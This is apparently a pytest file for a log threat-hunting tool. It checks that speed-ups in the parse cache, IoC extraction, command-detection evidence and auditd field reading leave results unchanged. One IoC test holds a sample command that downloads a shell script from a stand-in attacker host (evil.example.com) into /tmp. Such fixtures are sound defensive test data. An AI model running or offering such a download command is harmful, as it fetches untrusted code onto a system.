"""Speed-ups that must not change what is computed (issue 12).

Each test pins the behaviour the faster code relies on: the command detectors build a
command's evidence only for rows a rule hit, IoC extraction reads each distinct text once,
floats are bounded to 64-bit integers without a per-value loop, and the parse cache is
shared by readers with and without evidence roots.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hunting.analysis.iocs import _column_iocs
from hunting.evidence import parse_roots
from hunting.readers import read_cached
from hunting.readers.base import ReadOptions
from hunting.schema import INT, _numeric

LINE = "Mar  9 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.7 port 22 ssh2\n"


def test_parse_cache_shared_with_and_without_evidence_roots(tmp_path: Path) -> None:
    """The app (evidence roots set) reuses the CLI's parse of the same file, and roots still refuse."""
    root = tmp_path / "evidence"
    root.mkdir()
    log = root / "auth.log"
    log.write_text(LINE * 3)  # 3 lines by construction
    outside = tmp_path / "other.log"
    outside.write_text(LINE)
    cache = tmp_path / "cache"
    cache.mkdir()
    plain = read_cached(log, ReadOptions(), cache)
    rooted = read_cached(log, ReadOptions(roots=parse_roots([str(root)])), cache)
    assert plain.parquet and plain.parquet == rooted.parquet
    assert plain.account.parsed == rooted.account.parsed == 3
    assert len(list((cache / "parsed").iterdir())) == 1
    refused = read_cached(outside, ReadOptions(roots=parse_roots([str(root)])), cache)
    assert refused.parquet == {} and refused.account.format == "refused"


def test_numeric_bounds_floats_to_64_bits() -> None:
    # 2**63 does not fit int64 (max 2**63 - 1) and is dropped, as is -2**63 (|int(v)| > 2**63 - 1,
    # the rule the per-value check applied); 2**63 - 1024 is the largest float below 2**63
    # (float spacing is 1024 there) and stays exact: 9223372036854774784 = 2**63 - 1024.
    values = [1.0, np.nan, 2.0**63, -(2.0**63), 2.0**63 - 1024, -(2.0**63 - 1024), 2.0**62, 0.0]
    want = [1, None, None, None, 2**63 - 1024, -(2**63 - 1024), 2**62, 0]
    for dtype in ("float64", "Float64"):
        got = _numeric(pd.Series(values, dtype=dtype), INT)
        assert str(got.dtype) == "Int64"
        assert [None if pd.isna(v) else int(v) for v in got] == want
    big = _numeric(pd.Series([1, 2**64, None], dtype=object), INT)  # Python ints past 64 bits
    assert [None if pd.isna(v) else int(v) for v in big] == [1, None, None]


def test_column_iocs_repeated_texts_keep_their_own_rows() -> None:
    """Identical texts are read once, yet every row reports its IoCs with its own position."""
    sshd = "Failed password for root from 203.0.113.7 port 22 ssh2"
    fetch = "wget http://evil.example.com/x.sh -O /tmp/x.sh"
    text = pd.Series([sshd, "no address here", fetch, sshd, fetch, sshd], index=[10, 11, 12, 13, 14, 15])
    got = _column_iocs(text)
    by_row: dict[int, list[tuple[int, str, str]]] = {}
    for pos, order, kind, value in got:
        by_row.setdefault(pos, []).append((order, kind, value))
    assert sorted(by_row) == [10, 12, 13, 14, 15]
    # read by eye from the lines: the sshd line names one address; the wget line a URL,
    # its host as a domain and the saved path
    assert by_row[10] == by_row[13] == by_row[15] == [(0, "ipv4", "203.0.113.7")]
    kinds = {kind for _, kind, _ in by_row[12]}
    assert {"url", "dns", "path"} <= kinds
    assert by_row[12] == by_row[14]
    assert [o for o, _, _ in by_row[12]] == list(range(len(by_row[12])))


def test_command_evidence_built_for_hit_rows_equals_building_all() -> None:
    """The command detectors build a command's evidence (raw line, user, session) only for the
    rows a rule hit; a row's evidence must not depend on which other rows are built with it
    (sudo sessions are matched row by row)."""
    from hunting.demo.scenario import demo_log_paths
    from hunting.detections.base import _Ctx, _Sessions, collect
    from hunting.detections.execution import _command_hits, _commands
    from hunting.detections.runner import _default_risky, _default_specs
    from hunting.sources.local import LocalSource
    from hunting.timerange import TimeRange

    src = LocalSource.from_paths(demo_log_paths())
    row = src.hosts().set_index("Computer").loc["web01"]
    data = collect(src, "web01", TimeRange(row["FirstSeen"], row["LastSeen"] + timedelta(milliseconds=1)))
    ctx = _Ctx(data, _default_specs(), _default_risky(), _Sessions(data.audit, data.users))
    texts, build = _commands(ctx)
    every = build(range(len(texts)))
    assert len(every) == len(texts) > 1000
    assert {c.origin for c in every.values()} == {"audit", "sudo", "cron"}
    sudo = [p for p, c in every.items() if c.origin == "sudo"]
    assert any(every[p].session for p in sudo)  # some sudo lines are matched to an audit session
    sample = sudo[::3] + list(range(0, len(texts), 97))
    some = build(sample)
    assert set(some) == set(sample) and all(some[p] == every[p] for p in sample)
    hits, picked = _command_hits(ctx)
    assert len(hits) and set(picked) == set(hits["Row"].tolist())
    for pos, cmd in picked.items():
        assert cmd == every[pos]
        assert cmd.command == texts.iloc[pos]
    assert _command_hits(ctx)[1] is picked  # computed once per pass, shared by both detectors


def test_store_rows_equal_query_after_conform_on_demo() -> None:
    """Frames read through Arrow (Store.rows) equal the ``.df()`` ones once conformed, for every
    table and host of the demo; a big integer beside a null stays exact (``.df()`` goes through
    float64: 2**53 + 1 would come back as 2**53)."""
    from hunting.demo.scenario import demo_log_paths
    from hunting.queries import sql
    from hunting.schema import ALL_TABLES, HOST_USERS, conform
    from hunting.sources.local import LocalSource
    from hunting.store import Store

    src = LocalSource.from_paths(demo_log_paths())
    compared = 0
    for host in src.hosts()["Computer"]:
        for table in ALL_TABLES:
            if table is HOST_USERS:
                continue
            text, params = sql(
                "table_rows", identifiers={"table": table.name}, host=host,
                start=pd.Timestamp("1971-01-01", tz="UTC"), end=pd.Timestamp("2100-01-01", tz="UTC"),
                limit=10_000_000,
            )  # fmt: skip
            via_df = conform(src.store.query(text, params), table)
            via_arrow = conform(src.store.rows(text, params), table)
            assert via_arrow.equals(via_df), (host, table.name)
            assert list(map(str, via_arrow.dtypes)) == list(map(str, via_df.dtypes))
            compared += len(via_df)
    assert compared > 50_000  # the demo's three hosts hold ~54,000 rows
    store = Store()
    got = store.rows("SELECT * FROM (VALUES (CAST(9007199254740993 AS BIGINT)), (NULL)) t(v)")
    assert got["v"].tolist()[0] == 2**53 + 1 and pd.isna(got["v"].tolist()[1])


def test_is_version_precheck_keeps_the_regex_answer() -> None:
    """_is_version skips the look-behind regex when no version word is near; the answer must be
    the regex's own, also for letters re's IGNORECASE folds (ı and İ read as i, ſ as s)."""
    from hunting.analysis.iocs import _VERSION_AFTER, _VERSION_BEFORE, _is_version

    lines = [
        "verſion 1.2.3.4", "BUİLD 1.2.3.4", "buıld=1.2.3.4", "OpenSSL 1.2.3.4", "openſſh 1.2.3.4",
        "Chromium/1.2.3.4", "x-1.2.3.4", "agent: 1.2.3.4", "RELEASE 1.2.3.4", "reviſion1.2.3.4",
        "wındows 1.2.3.4", "fooVer 1.2.3.4", "V1.2.3.4", "from 1.2.3.4", "pıd 1.2.3.4",
        "Accepted password for root from 1.2.3.4 port 22", "1.2.3.4-rc1", "nginx/1.2.3.4",
    ]  # fmt: skip
    answers = []
    for line in lines:
        start = line.index("1.2.3.4")
        end = start + len("1.2.3.4")
        direct = bool(_VERSION_BEFORE.search(line[max(0, start - 40) : start])) or bool(
            _VERSION_AFTER.match(line, end)
        )
        assert _is_version(line, start, end) == direct, line
        answers.append(direct)
    # read by eye: the keyword lines (folded letters included) are versions, plain addresses are not
    assert answers.count(True) == 14 and answers[-5:] == [False, False, False, True, True]


def _audit_logs(shared_data: Path) -> list[Path]:
    """Every file under ../shared/data the auditd reader claims (by its own sniffing), and
    the demo's audit logs."""
    from hunting.demo.scenario import demo_log_paths
    from hunting.readers.auditd import AUDITD_READER

    found = []
    for path in sorted(shared_data.rglob("*")):
        if path.is_file() and path.stat().st_size:
            with path.open("rb") as fh:
                head = fh.read(65536).decode("utf-8", "replace").splitlines()[:50]
            if AUDITD_READER.sniff(head):
                found.append(path)
    for folder in demo_log_paths():
        found.extend(sorted(folder.rglob("audit.log*")))
    return found


def _per_field(lines: object, names: list[str]) -> dict[str, list[object]]:
    """The reference: one regex per field over every record (what the reader ran before)."""
    from hunting.readers.auditd import _extract, _field_pattern

    return {name: _extract(lines, _field_pattern(name)).to_pylist() for name in names}  # type: ignore[arg-type]


def _field_names() -> list[str]:
    from hunting.readers.auditd import _OTHER_FIELDS, _SYSCALL_FIELDS

    return sorted({*_SYSCALL_FIELDS.values(), *_OTHER_FIELDS.values(), "cwd", "proctitle", "cmd"})


AUDIT_FIELD_NAMES = _field_names()


def test_audit_fields_one_pass_equals_per_field_regexes(
    shared_data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The one-pass field reader returns, for every record of every real audit log and the
    demo's, exactly what one regex per field returned (the values the reader decodes)."""
    import hunting.readers.auditd
    from hunting.readers.auditd import _fields, _split_lines

    # records are read in chunks; a small chunk makes the demo's logs cross many boundaries
    monkeypatch.setattr(hunting.readers.auditd, "_FIELDS_CHUNK", 997)

    logs = _audit_logs(shared_data)
    # ls ../shared/data: audit-userspace, beats-auditd, go-libaudit, laurel, otrf, plaso hold
    # 60+ audit logs; the demo adds web01's and db01's
    assert len(logs) >= 60
    assert sum(1 for p in logs if "demo" in str(p) or p.name == "audit.log") >= 2
    records = 0
    for path in logs:
        lines = _split_lines(path.read_bytes())
        got = {name: values.to_pylist() for name, values in _fields(lines, AUDIT_FIELD_NAMES).items()}
        assert got == _per_field(lines, AUDIT_FIELD_NAMES), path
        records += len(lines)
    assert records > 20_000  # the demo's two audit logs alone hold ~90,000 records


def test_audit_fields_one_pass_on_values_that_run_past_a_space() -> None:
    """Records where a value holds a space, a quote, a tab, the ENRICHED separator or a field
    after ``(``: the one-pass reader must still give the per-field regexes' answers."""
    from hunting.readers.auditd import _fields, _split_lines

    head = "type=SYSCALL msg=audit(1700000000.000:{}): "
    records = [
        head.format(1) + 'arch=c000003e syscall=59 ppid=1 pid=2 uid=0 comm="a(exe=/bin/evil" exe="/usr/bin/real" key=(null)',
        "type=USER_CMD msg=audit(1700000000.000:2): pid=3 uid=0 auid=1000 ses=1 msg='cwd=\"/root\" cmd=6C73 terminal=pts/0 res=success'",
        "type=USER_LOGIN msg=audit(1700000000.000:3): pid=4 uid=0 msg='op=login acct=\"a b uid=9\" exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.1 terminal=ssh res=failed'",
        head.format(4) + 'syscall=59 pid=5 comm="x" key="k"\x1dARCH=x86_64 UID="root" AUID="unset"',
        head.format(5) + "syscall=59 pid=6 comm=ab\tuid=3 exe=/bin/sh",
        "type=USER_ACCT msg=audit(1700000000.000:6): pid=7 uid=0 msg='op=PAM:accounting acct=\"it's\" res=success'",
        "type=USER_ACCT msg=audit(1700000000.000:7): pid=8 uid=0 msg='op=PAM:accounting acct=\"ok\"x res=success (hostname=h, addr=?, terminal=cron res=failed)'",
        head.format(8) + 'syscall=59 pid=9 comm="unclosed exe=/bin/sh',
    ]  # fmt: skip
    lines = _split_lines("\n".join(records).encode())
    got = {name: values.to_pylist() for name, values in _fields(lines, AUDIT_FIELD_NAMES).items()}
    assert got == _per_field(lines, AUDIT_FIELD_NAMES)
    # read by eye from the records, by the rule "first `name=` after a line start, space, ' or (;
    # the value a "..." or the run up to a space, quote or the ENRICHED separator"
    assert (
        got["exe"][0] == "/bin/evil" and got["comm"][0] == '"a(exe=/bin/evil"' and got["key"][0] == "(null)"
    )
    assert (got["res"][1], got["terminal"][1], got["cwd"][1], got["op"][1]) == (
        "success",
        "pts/0",
        '"/root"',
        None,
    )
    assert (got["uid"][2], got["acct"][2], got["hostname"][2], got["res"][2]) == (
        "0",
        '"a b uid=9"',
        "?",
        "failed",
    )
    assert (got["key"][3], got["comm"][3]) == ('"k"', '"x"')
    assert (got["comm"][4], got["uid"][4], got["exe"][4]) == (
        "ab",
        None,
        "/bin/sh",
    )  # a tab ends the value, starts no field
    assert got["acct"][5] == '"it\'s"'
    assert (got["acct"][6], got["hostname"][6], got["res"][6]) == ('"ok"', "h,", "success")
    assert (got["comm"][7], got["exe"][7]) == (
        "",
        "/bin/sh",
    )  # no closing quote: comm is empty, exe follows a space


def test_snapshot_keeps_raw_messages_with_zstd_and_unchanged(tmp_path: Path) -> None:
    """The snapshot writes AuditEvents.RawMessage with ZSTD (faster to write than DuckDB's
    default string compression); the text read back is the parse cache's, record for record."""
    import duckdb

    from hunting.demo.scenario import demo_log_paths
    from hunting.store import Store

    store = Store()
    store.load(demo_log_paths(), cache=tmp_path)
    assert store.snapshot is not None and not store.snapshot_reused
    kinds = store.query(
        "SELECT DISTINCT compression FROM pragma_storage_info('AuditEvents') WHERE column_name = 'RawMessage'"
    )["compression"]
    assert "ZSTD" in set(kinds) and "DICT_FSST" not in set(kinds)
    parquet = sorted(str(p) for p in (tmp_path / "parsed").glob("*/AuditEvents.parquet"))
    assert len(parquet) == 2  # the demo's web01 and db01 audit logs
    order = "ORDER BY EventId, RawMessage"
    got = store.query(f"SELECT EventId, RawMessage FROM AuditEvents {order}")
    want = duckdb.sql(f"SELECT EventId, RawMessage FROM read_parquet({parquet!r}) {order}").df()
    # distinct msg=audit(...) ids (grep -o | sort -u | wc -l): web01 15,009, db01 8,513
    assert len(got) == len(want) == 15_009 + 8_513
    assert got["RawMessage"].tolist() == want["RawMessage"].tolist()


def test_audit_split_lines_without_a_python_string(shared_data: Path) -> None:
    """Valid UTF-8 goes to Arrow without a Python str; the lines equal Python's own split of
    the decoded text (a final newline adds no line, CR trimmed at line ends when present)."""
    from hunting.readers.auditd import _split_lines

    def reference(data: bytes) -> list[str]:
        text = data.decode("utf-8", "replace")
        if not data:
            return []
        lines = (text[:-1] if text.endswith("\n") else text).split("\n")
        return [line.rstrip("\r") for line in lines] if "\r" in text else lines

    cases = [b"", b"\n", b"\n\n", b"a", b"a\n", b"a\nb", b"a\r\nb\r\n", b"a\r\r\n\rb", b"\xff\xfeabc\nx\n"]
    cases += [b"caf\xc3\xa9\n", b"x\x00y\n", b"a\n\n", b"half \xe2\x82\n"]
    cases += [p.read_bytes() for p in _audit_logs(shared_data)[:20]]
    for data in cases:
        assert _split_lines(data).to_pylist() == reference(data), data[:40]
